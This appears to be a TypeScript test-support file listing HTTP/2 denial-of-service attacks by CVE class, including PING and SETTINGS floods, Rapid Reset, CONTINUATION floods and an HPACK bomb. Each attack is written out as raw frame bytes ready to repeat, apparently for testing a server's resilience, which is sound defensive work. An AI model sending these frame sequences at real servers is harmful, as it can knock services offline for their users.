import { frame, uint32 } from '../../test/support/http2-frames.ts';

/** The classes of HTTP/2 CVEs: what a client sends, over and over, that costs it little. */
export interface Attack {
  readonly name: string;
  /** Behind the preface, SETTINGS and its acknowledgement. */
  readonly start?: string;
  /** One more of it. `index` counts up from 0 on each connection. */
  piece(index: number): string;
  /** The answers are not taken. */
  readonly isDeaf?: boolean;
}

export const OPENING = `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${frame(4, 0, 0)}${frame(4, 1, 0)}`;
const GET = '\x82\x86\x84\x01\x01a';
const BIG = `\x82\x86\x01\x01a${literal(':path', '/big')}`;
const POST = '\x83\x86\x84\x01\x01a';

export const ATTACKS: readonly Attack[] = [
  { name: 'PING (2019-9512)', piece: () => frame(6, 0, 0, 'abcdefgh') },
  { name: 'PING, deaf', isDeaf: true, piece: () => frame(6, 0, 0, 'abcdefgh') },
  { name: 'SETTINGS (2019-9515)', piece: () => frame(4, 0, 0) },
  { name: 'SETTINGS of 30 values (2020-11080)', piece: () => frame(4, 0, 0, `\0\x04${uint32(65_535)}`.repeat(30)) },
  { name: 'SETTINGS under 90 streams', start: streams(90, BIG), piece: () => frame(4, 0, 0, `\0\x04${uint32(0)}`.repeat(30)) },
  { name: 'PRIORITY (2019-9513)', piece: () => frame(2, 0, 1, `${uint32(0)}\0`) },
  { name: 'WINDOW_UPDATE', start: frame(1, 4, 1, POST), piece: () => frame(8, 0, 0, uint32(1)) },
  { name: 'empty DATA (2019-9518)', start: frame(1, 4, 1, POST), piece: () => frame(0, 0, 1) },
  { name: 'DATA of a byte (2020-12603)', start: frame(1, 4, 1, POST), piece: () => frame(0, 0, 1, 'a') },
  { name: 'requests taken back (2023-44487)', piece: (index) => frame(1, 5, index * 2 + 1, GET) + frame(3, 0, index * 2 + 1, uint32(8)) },
  { name: 'refused requests (2019-9514)', start: streams(100, BIG), piece: (index) => frame(1, 5, index * 2 + 201, GET) },
  { name: 'malformed requests (2019-9514)', piece: (index) => frame(1, 5, index * 2 + 1, GET + literal('te', 'gzip')) },
  { name: 'CONTINUATION without end (2024-30255)', start: frame(1, 0, 1, GET), piece: () => frame(9, 0, 1, literal('x-a', 'b').repeat(100)) },
  { name: 'HPACK bomb', piece: (index) => frame(1, 5, index * 2 + 1, `${GET}\x40\x03x-a\x7f\x81\x1f${'v'.repeat(4000)}${'\xbe'.repeat(8000)}`) },
  { name: 'cookie crumbs (2026-47774)', piece: (index) => frame(1, 5, index * 2 + 1, GET + literal('cookie', 'a=b').repeat(1200)) },
  { name: 'long names (2020-12605)', piece: (index) => frame(1, 5, index * 2 + 1, `${GET}\0\x7f\x81\x7b${'n'.repeat(16_000)}\x01v`) },
  { name: 'windows never opened (2020-12604)', isDeaf: true, start: frame(4, 0, 0, `\0\x04${uint32(0)}`), piece: (index) => (index < 100 ? frame(1, 5, index * 2 + 1, BIG) : frame(6, 0, 0, 'abcdefgh')) },
  { name: 'GOAWAY', piece: () => frame(7, 0, 0, uint32(0) + uint32(0)) },
];

function streams(count: number, head: string): string {
  return Array.from({ length: count }, (_, index) => frame(1, 5, index * 2 + 1, head)).join('');
}

/** Of up to 126 bytes each. */
function literal(name: string, value: string): string {
  return `\0${String.fromCharCode(name.length)}${name}${String.fromCharCode(value.length)}${value}`;
}
